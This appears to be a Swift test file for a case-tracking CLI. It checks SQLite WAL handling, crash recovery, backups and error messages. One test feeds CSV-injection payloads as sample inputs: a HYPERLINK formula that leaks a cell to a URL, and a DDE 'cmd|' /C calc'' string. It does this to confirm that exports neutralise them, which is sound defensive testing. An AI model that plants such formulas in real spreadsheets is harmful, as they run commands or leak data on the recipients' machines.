import CaseStore
import Foundation
import GRDB
import Testing

/// Issue 22, the file-related points: a `-wal` that is not the file's own,
/// CSV formulas, and the smaller file problems of point 8.
@Suite struct DataSafetyRoundThreeFileTests {
    /// Another casetrack database with uncheckpointed commits in its `-wal`
    /// (same texts imported, so its pages line up with the good file's).
    static func foreignWAL(beside cli: CLIRunner) throws -> Data {
        let other = cli.directory.appendingPathComponent("other.sqlite").path
        #expect(try cli.run("import", ImportCLITests.first, ImportCLITests.second, "--db", other).status == 0)
        var config = Configuration()
        config.prepareDatabase { db in try db.execute(sql: "PRAGMA wal_autocheckpoint = 0") }
        let queue = try DatabaseQueue(path: other, configuration: config)
        try queue.write { db in
            try db.execute(sql: "INSERT INTO person (name, created_at) VALUES ('Zed Zedson', '2026-01-01T00:00:00Z')")
            try db.execute(sql: "INSERT INTO audit_log (at, by, command, summary) VALUES ('2026-01-01T00:00:00Z', 'x', 'person add', 'Zed Zedson')")
        }
        try FileManager.default.copyItem(atPath: other + "-wal", toPath: cli.databasePath + "-wal")
        try queue.close()
        return try Data(contentsOf: URL(fileURLWithPath: cli.databasePath + "-wal"))
    }

    // MARK: 3 - a read can never change the file; a foreign -wal is named, never merged

    @Test func anotherDatabasesWALIsNeverMergedIntoAGoodFile() throws {
        let cli = try CLIRunner()
        #expect(try cli.run("import", ImportCLITests.first).status == 0)
        let wal = try Self.foreignWAL(beside: cli)
        let before = try cli.databaseBytes()

        let check = try cli.run("check")
        #expect(check.status == 1, "\(check.stdout)")
        #expect(check.stdout.contains("cases.sqlite-wal does not belong to this file") && check.stdout.contains("move it aside"), "\(check.stdout)")
        for command in [["documents"], ["log"], ["person", "list"], ["export", "--format", "json"],
                        ["status", "set", "Askhat Zheksebayev", "released", "--date", "2024-01-01", "--source", "call"],
                        ["person", "add", "Someone New"], ["import", ImportCLITests.second]] {
            let result = try cli.run(arguments: command)
            #expect(result.status == 1, "\(command): \(result.stdout) \(result.stderr)")
            let lines = result.stderr.split(separator: "\n").filter { $0.hasPrefix("Error:") || !$0.hasPrefix("[") }
            #expect(lines.count == 1 && result.stderr.contains("does not belong to") && result.stderr.contains("move that -wal file aside"),
                    "\(command): \(result.stderr)")
        }
        // Byte for byte: the file, and the -wal, are as they were.
        #expect(try cli.databaseBytes() == before)
        #expect(try Data(contentsOf: URL(fileURLWithPath: cli.databasePath + "-wal")) == wal)

        // Moved aside, as the message says: the good file is whole and writable again.
        try FileManager.default.moveItem(atPath: cli.databasePath + "-wal", toPath: cli.databasePath + "-wal.aside")
        let after = try cli.run("check")
        #expect(after.status == 0, "\(after.stdout)")
        #expect(try cli.run("person", "add", "Someone New").status == 0)
        #expect(try cli.run("check").status == 0)
    }

    /// The worker that `casetrack import` starts, run directly so that a
    /// SIGKILL stops the process that writes.
    func startImportWorker(_ cli: CLIRunner, files: [String]) throws -> Process {
        let process = Process()
        process.executableURL = CLIRunner.binary
        process.arguments = ["import", "--worker-progress", cli.directory.appendingPathComponent("progress").path] + files
        var environment = ProcessInfo.processInfo.environment
        environment["CASETRACK_DB"] = cli.databasePath
        process.environment = environment
        process.standardOutput = FileHandle.nullDevice
        process.standardError = FileHandle.nullDevice
        try process.run()
        return process
    }

    @Test func aKilledImportsOwnWALIsReadByReadersAndRecoveredByTheNextWrite() throws {
        let cli = try CLIRunner()
        let corpus = try DataSafetyTests.corpus(in: cli.directory, count: 40, seed: 71)
        #expect(try cli.run("person", "add", "Ivana Testova").status == 0)
        let process = try startImportWorker(cli, files: corpus.paths)
        // Killed once a few documents are committed to the -wal (bounded: 60 s at most).
        let progress = cli.directory.appendingPathComponent("progress").path
        for _ in 0..<1200 where process.isRunning {
            let lines = (try? String(contentsOfFile: progress, encoding: .utf8))?.split(separator: "\n").count ?? 0
            if lines >= 5 { break }
            Thread.sleep(forTimeInterval: 0.05)
        }
        kill(process.processIdentifier, SIGKILL)
        process.waitUntilExit()
        let walSize = (try FileManager.default.attributesOfItem(atPath: cli.databasePath + "-wal")[.size] as? Int) ?? 0
        #expect(walSize > 0, "the kill left no -wal: the test did not test recovery")
        let file = try cli.databaseBytes()
        let wal = try Data(contentsOf: URL(fileURLWithPath: cli.databasePath + "-wal"))

        // Readers see every committed document, and change nothing.
        let documents = try JSONSerialization.jsonObject(with: Data(try cli.run("documents", "--format", "json").stdout.utf8)) as? [[String: Any]]
        let committed = documents?.count ?? 0
        #expect(committed >= 5, "\(committed)")
        let check = try cli.run("check")
        #expect(check.status == 0, "\(check.stdout)")
        #expect(try cli.databaseBytes() == file)
        #expect(try Data(contentsOf: URL(fileURLWithPath: cli.databasePath + "-wal")) == wal)

        // The next write recovers it into the file: nothing committed is lost.
        #expect(try cli.run("person", "add", "Second Person").status == 0)
        #expect(!FileManager.default.fileExists(atPath: cli.databasePath + "-wal"))
        let alone = try DatabaseQueue(path: cli.databasePath, configuration: { var c = Configuration(); c.readonly = true; return c }())
        let stored = try alone.read { db in try Int.fetchOne(db, sql: "SELECT count(*) FROM document") ?? 0 }
        try alone.close()
        #expect(stored == committed)
        #expect(try DataSafetyTests.documentsAreWhole(cli.databasePath, corpus) == committed)
        #expect(try cli.run("check").status == 0)
    }

    // MARK: 7 - no CSV cell runs as a formula

    @Test func everyCSVNeutralisesCellsThatASpreadsheetRunsAsFormulas() throws {
        let cli = try CLIRunner()
        let formula = "=HYPERLINK(\"http://example.org/?\"&A1,\"open\")"
        #expect(try cli.run("person", "add", formula).status == 0)
        #expect(try cli.run("person", "alias", formula, "@SUM(1+1)").status == 0)
        #expect(try cli.run(arguments: ["status", "set", formula, "detained", "--date", "2022-01-01", "--source=-2+3+cmd|' /C calc'!A0"]).status == 0)
        #expect(try cli.run(arguments: ["person", "add", "+Plus Person"]).status == 0)

        func cells(_ csv: String) -> [String] {
            // Unquoted or quoted cells, split on commas outside quotes.
            var cells: [String] = [], cell = "", quoted = false
            for character in csv {
                if character == "\"" { quoted.toggle(); cell.append(character) } else if (character == "," || character == "\r\n" || character == "\n") && !quoted {
                    cells.append(cell); cell = ""
                } else { cell.append(character) }
            }
            cells.append(cell)
            return cells.map { $0.hasPrefix("\"") && $0.hasSuffix("\"") && $0.count >= 2 ? String($0.dropFirst().dropLast()).replacingOccurrences(of: "\"\"", with: "\"") : $0 }
        }
        func expectNeutral(_ csv: String, _ context: String) {
            for cell in cells(csv) {
                guard let first = cell.unicodeScalars.first else { continue }
                let negativeNumber = cell.count > 1 && cell.hasPrefix("-") && Double(cell) != nil
                #expect(!"=+-@\t\r".unicodeScalars.contains(first) || negativeNumber, "\(context): \(cell)")
            }
        }
        let list = try cli.run("person", "list", "--format", "csv")
        #expect(list.status == 0 && list.stdout.contains("'=HYPERLINK(") && list.stdout.contains("'+Plus Person"), "\(list.stdout)")
        expectNeutral(list.stdout, "person list")
        for command in [["status", "list", "--format", "csv"], ["log", "--format", "csv"]] {
            let result = try cli.run(arguments: command)
            #expect(result.status == 0, "\(command): \(result.stderr)")
            expectNeutral(result.stdout, "\(command)")
        }
        let directory = cli.directory.appendingPathComponent("csv")
        #expect(try cli.run("export", "--format", "csv", "-o", directory.path).status == 0)
        var seen = Set<String>()
        for file in try FileManager.default.contentsOfDirectory(atPath: directory.path) {
            let text = try String(contentsOf: directory.appendingPathComponent(file), encoding: .utf8)
            expectNeutral(text, file)
            for cell in cells(text) where cell.hasPrefix("'") { seen.insert(cell) }
        }
        #expect(seen.contains("'" + formula) && seen.contains("'@SUM(1+1)") && seen.contains("'-2+3+cmd|' /C calc'!A0"), "\(seen)")
        // The JSON export keeps the text exactly as recorded.
        #expect(try cli.run("export", "--format", "json").stdout.contains("\"name\":\"=HYPERLINK("))
    }

    // MARK: 8 - the file-related smaller ones

    @Test func checkNamesAMentionOfBytesWithoutAFatalError() throws {
        let cli = try CLIRunner()
        #expect(try cli.run("import", ImportCLITests.first).status == 0)
        let queue = try DatabaseQueue(path: cli.databasePath)
        try queue.write { db in try db.execute(sql: "UPDATE mention SET text = x'41ff42' WHERE id = 3") }
        try queue.close()
        let result = try cli.run("check")
        #expect(result.status == 1)
        #expect(result.stderr.isEmpty, "\(result.stderr)")
        #expect(result.stdout.contains("table mention row 3: its text holds bytes that are not valid text"), "\(result.stdout)")
    }

    @Test func aBackupRemovesTheHiddenCopiesKilledBackupsLeftAndNamesThem() throws {
        let cli = try CLIRunner()
        #expect(try cli.run("import", ImportCLITests.first).status == 0)
        let backups = cli.directory.appendingPathComponent("backups")
        try FileManager.default.createDirectory(at: backups, withIntermediateDirectories: true)
        // What a SIGKILL in the middle of a backup leaves: the hidden copy and its journal.
        let stale = backups.appendingPathComponent(".monday.sqlite.casetrack-backup-\(UUID().uuidString)").path
        try FileManager.default.copyItem(atPath: cli.databasePath, toPath: stale)
        try Data("journal".utf8).write(to: URL(fileURLWithPath: stale + "-journal"))
        // One an earlier version left (no lock, its own name).
        let earlier = backups.appendingPathComponent(".sunday.sqlite.casetrack-\(UUID().uuidString)").path
        try FileManager.default.copyItem(atPath: cli.databasePath, toPath: earlier)
        // A backup still running holds its copy locked; an export's temporary file is not a copy of the database.
        let running = backups.appendingPathComponent(".tuesday.sqlite.casetrack-backup-\(UUID().uuidString)").path
        try FileManager.default.copyItem(atPath: cli.databasePath, toPath: running)
        let lock = open(running, O_RDONLY)
        #expect(flock(lock, LOCK_EX) == 0)
        defer { close(lock) }
        let export = backups.appendingPathComponent(".cases.json.casetrack-\(UUID().uuidString)").path
        try Data("{}".utf8).write(to: URL(fileURLWithPath: export))

        let result = try cli.run("backup", backups.appendingPathComponent("wednesday.sqlite").path)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stderr.contains(stale) && result.stderr.contains(earlier) && result.stderr.contains("interrupted backup"), "\(result.stderr)")
        let left = Set(try FileManager.default.contentsOfDirectory(atPath: backups.path))
        #expect(left == ["wednesday.sqlite", URL(fileURLWithPath: running).lastPathComponent, URL(fileURLWithPath: export).lastPathComponent], "\(left)")

        // Real kills: whatever they leave, the next backup leaves only whole copies.
        let corpus = try DataSafetyTests.corpus(in: cli.directory, count: 30, seed: 43)
        #expect(try cli.run(arguments: ["import"] + corpus.paths).status == 0)
        let killed = cli.directory.appendingPathComponent("killed")
        try FileManager.default.createDirectory(at: killed, withIntermediateDirectories: true)
        for (index, delay) in [0.0, 0.02, 0.05, 0.1].enumerated() {
            let process = Process()
            process.executableURL = CLIRunner.binary
            process.arguments = ["backup", killed.appendingPathComponent("copy-\(index).sqlite").path, "--db", cli.databasePath]
            process.standardOutput = FileHandle.nullDevice
            process.standardError = FileHandle.nullDevice
            try process.run()
            Thread.sleep(forTimeInterval: delay)
            kill(process.processIdentifier, SIGKILL)
            process.waitUntilExit()
        }
        #expect(try cli.run("backup", killed.appendingPathComponent("final.sqlite").path).status == 0)
        let hidden = try FileManager.default.contentsOfDirectory(atPath: killed.path).filter { $0.hasPrefix(".") }
        #expect(hidden.isEmpty, "\(hidden)")
    }

    @Test func importTakesFilesAfterADoubleDash() throws {
        let cli = try CLIRunner()
        let odd = cli.directory.appendingPathComponent("--odd.txt")
        try FileManager.default.copyItem(atPath: ImportCLITests.second, toPath: odd.path)
        let result = try cli.run("import", "--", ImportCLITests.first)
        #expect(result.status == 0, "\(result.stderr)")
        let odder = try cli.run("import", "--by", "tester", "--", "--odd.txt")
        #expect(odder.status == 0, "\(odder.stderr)")
        let documents = try cli.run("documents", "--format", "json").stdout
        #expect(documents.contains("2021/2544(RSP)") && documents.contains("2022/2505(RSP)"))
        // Before `--`, a mistyped option is still a usage error.
        #expect(try cli.run("import", "--dry-runn", ImportCLITests.first).status == 64)
    }

    @Test func aDanglingSymbolicLinkIsNamedAsOne() throws {
        let cli = try CLIRunner()
        let link = cli.directory.appendingPathComponent("cases-link.sqlite").path
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: "moved-away.sqlite")
        for command in [["documents"], ["check"], ["person", "add", "Someone"]] {
            let result = try cli.run(arguments: command + ["--db", link])
            #expect(result.status == 1, "\(command)")
            #expect(result.stderr.contains("symbolic link to moved-away.sqlite, which does not exist") && !result.stderr.contains("permission denied"),
                    "\(command): \(result.stderr)")
            #expect(result.stderr.split(separator: "\n").count == 1)
        }
        #expect(!FileManager.default.fileExists(atPath: cli.directory.appendingPathComponent("moved-away.sqlite").path))
    }

    @Test func aGarbledFileIsOneSentenceNotSQLitesMessage() throws {
        let cli = try CLIRunner()
        #expect(try cli.run("import", ImportCLITests.first).status == 0)
        let good = try cli.databaseBytes()
        var generator = SystemRandomNumberGenerator()
        let garbled = [good.prefix(100) + Data((0..<200_000).map { _ in UInt8.random(in: 0...255, using: &generator) }),
                       good.prefix(50_000)]
        for (index, bytes) in garbled.enumerated() {
            let path = cli.directory.appendingPathComponent("garbled-\(index).sqlite").path
            try bytes.write(to: URL(fileURLWithPath: path))
            for command in [["documents"], ["check"], ["person", "add", "Someone"]] {
                let result = try cli.run(arguments: command + ["--db", path])
                #expect(result.status == 1, "\(command)")
                #expect(result.stderr.contains("is a damaged SQLite file") && result.stderr.contains("restore it from a backup")
                        && !result.stderr.contains("malformed"), "\(index) \(command): \(result.stderr)")
                #expect(result.stderr.split(separator: "\n").count == 1)
            }
            #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == bytes)
        }
    }
}
